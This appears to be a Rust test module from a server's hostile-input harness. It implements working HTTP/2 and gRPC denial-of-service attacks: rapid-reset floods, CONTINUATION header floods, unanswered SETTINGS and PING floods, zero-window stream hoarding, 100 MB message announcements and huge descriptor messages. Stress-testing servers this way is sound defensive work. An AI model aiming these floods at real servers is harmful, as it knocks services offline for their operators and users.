//! Attacks by HTTP/2: rapid resets, endless heads, frames without use, huge gRPC messages.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::Duration;

use super::super::harness::{CLIENT_PREFACE, Http2Frame, grpc_request_head};
use super::hostile_input::{AttackResult, HostileAttack};

/// The attacks on doors that speak HTTP/2.
pub(super) const ATTACKS: &[HostileAttack] = &[
    HostileAttack { name: "rapid resets", run: rapid_resets },
    HostileAttack { name: "endless heads", run: endless_head },
    HostileAttack { name: "frames without use", run: useless_frames },
    HostileAttack { name: "streams without a window", run: closed_windows },
];

/// The attacks on the gRPC door alone.
pub(super) const GRPC_ATTACKS: &[HostileAttack] = &[
    HostileAttack { name: "messages of 100 MB", run: huge_messages },
    HostileAttack { name: "half a million descriptors", run: many_descriptors },
];

/// The maximum number of bytes of an attack.
const MAX_BYTES: usize = 8 << 20;
const PATIENCE: Duration = Duration::from_secs(2);

fn connect(address: SocketAddr) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE).ok()?;
    stream.set_read_timeout(Some(PATIENCE)).ok()?;
    stream.set_write_timeout(Some(PATIENCE)).ok()?;
    stream.write_all(CLIENT_PREFACE).ok()?;
    Some(stream)
}

/// Writes until the server closes the connection, takes no more, or enough is written.
fn flood(address: SocketAddr, reads: bool, mut next: impl FnMut() -> Vec<u8>) {
    let Some(mut stream) = connect(address) else { return };
    let reader = reads.then(|| stream.try_clone().ok()).flatten().map(|mut reader| {
        // Responses are read, so that they do not make the server stop reading.
        std::thread::spawn(move || {
            let mut ignored = vec![0; 64 << 10];
            while reader.read(&mut ignored).is_ok_and(|length| length > 0) {}
        })
    });
    let mut written = 0;
    while written < MAX_BYTES {
        let bytes = next();
        if stream.write_all(&bytes).is_err() {
            break;
        }
        written += bytes.len();
    }
    let _ = stream.shutdown(Shutdown::Both);
    if let Some(reader) = reader {
        let _ = reader.join();
    }
}

fn rapid_resets(address: SocketAddr) -> AttackResult {
    let (head, mut stream) = (grpc_request_head(), 1);
    flood(address, true, || {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            let headers =
                Http2Frame::new(Http2Frame::HEADERS, Http2Frame::END_HEADERS, stream, &head);
            bytes.extend(headers.bytes());
            let reset = Http2Frame::new(Http2Frame::RESET, 0, stream, &8_u32.to_be_bytes());
            bytes.extend(reset.bytes());
            stream += 2;
        }
        bytes
    });
    AttackResult::default()
}

fn endless_head(address: SocketAddr) -> AttackResult {
    let block = b"\x00\x03x-y\x20aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".repeat(300);
    let mut kind = Http2Frame::HEADERS;
    flood(address, true, || {
        let kind = std::mem::replace(&mut kind, Http2Frame::CONTINUATION);
        Http2Frame::new(kind, 0, 1, &block).bytes()
    });
    // Empty frames cost their sender next to nothing.
    let mut kind = Http2Frame::HEADERS;
    flood(address, true, || match std::mem::replace(&mut kind, Http2Frame::CONTINUATION) {
        Http2Frame::HEADERS => {
            Http2Frame::new(Http2Frame::HEADERS, 0, 1, &grpc_request_head()).bytes()
        }
        kind => Http2Frame::new(kind, 0, 1, &[]).bytes().repeat(1_000),
    });
    AttackResult::default()
}

/// Sends frames that a server has to answer, and reads no answer.
fn useless_frames(address: SocketAddr) -> AttackResult {
    for useless in [
        Http2Frame::new(Http2Frame::SETTINGS, 0, 0, &[]),
        Http2Frame::new(Http2Frame::PING, 0, 0, &[0; 8]),
        Http2Frame::new(Http2Frame::DATA, 0, 1, &[]),
    ] {
        let bytes = useless.bytes().repeat(1_000);
        flood(address, false, || bytes.clone());
    }
    AttackResult::default()
}

/// Opens streams on connections that allow no byte of a response, and keeps them.
fn closed_windows(address: SocketAddr) -> AttackResult {
    let mut result = AttackResult::default();
    for _ in 0..20 {
        let Some(mut stream) = connect(address) else { continue };
        // A window of nothing: heads may come, bodies may not.
        let mut bytes = Http2Frame::new(Http2Frame::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]).bytes();
        for number in 0..100 {
            let (head, stream) = (grpc_request_head(), 2 * number + 1);
            let flags = Http2Frame::END_HEADERS;
            bytes.extend(Http2Frame::new(Http2Frame::HEADERS, flags, stream, &head).bytes());
            let message = [0, 0, 0, 0, 0];
            let flags = Http2Frame::END_STREAM;
            bytes.extend(Http2Frame::new(Http2Frame::DATA, flags, stream, &message).bytes());
        }
        let _ = stream.write_all(&bytes);
        result.held.push(stream);
    }
    result
}

/// Announces messages of 100 MB and sends as much of them as the server takes.
fn huge_messages(address: SocketAddr) -> AttackResult {
    let mut result = AttackResult::default();
    for _ in 0..20 {
        let Some(mut stream) = connect(address) else { continue };
        let (head, flags) = (grpc_request_head(), Http2Frame::END_HEADERS);
        let mut bytes = Http2Frame::new(Http2Frame::HEADERS, flags, 1, &head).bytes();
        let mut data = vec![0];
        data.extend((100_u32 << 20).to_be_bytes());
        data.resize(16 << 10, 7);
        bytes.extend(Http2Frame::new(Http2Frame::DATA, 0, 1, &data).bytes().repeat(4));
        let _ = stream.write_all(&bytes);
        result.held.push(stream);
    }
    result
}

/// Sends messages of empty descriptors, of two bytes each.
fn many_descriptors(address: SocketAddr) -> AttackResult {
    for _ in 0..5 {
        let Some(mut stream) = connect(address) else { continue };
        let (head, flags) = (grpc_request_head(), Http2Frame::END_HEADERS);
        let mut bytes = Http2Frame::new(Http2Frame::HEADERS, flags, 1, &head).bytes();
        let message = [0x12, 0].repeat(500_000);
        let mut framed = vec![0];
        framed.extend((message.len() as u32).to_be_bytes());
        framed.extend(message);
        // The first window of a stream has 64 KiB: what goes beyond it is a fault of the client.
        for chunk in framed.chunks(16 << 10) {
            bytes.extend(Http2Frame::new(Http2Frame::DATA, 0, 1, chunk).bytes());
        }
        let _ = stream.write_all(&bytes);
        let _ = stream.shutdown(Shutdown::Write);
        let _ = (&stream).take(1 << 16).read_to_end(&mut Vec::new());
    }
    AttackResult::default()
}
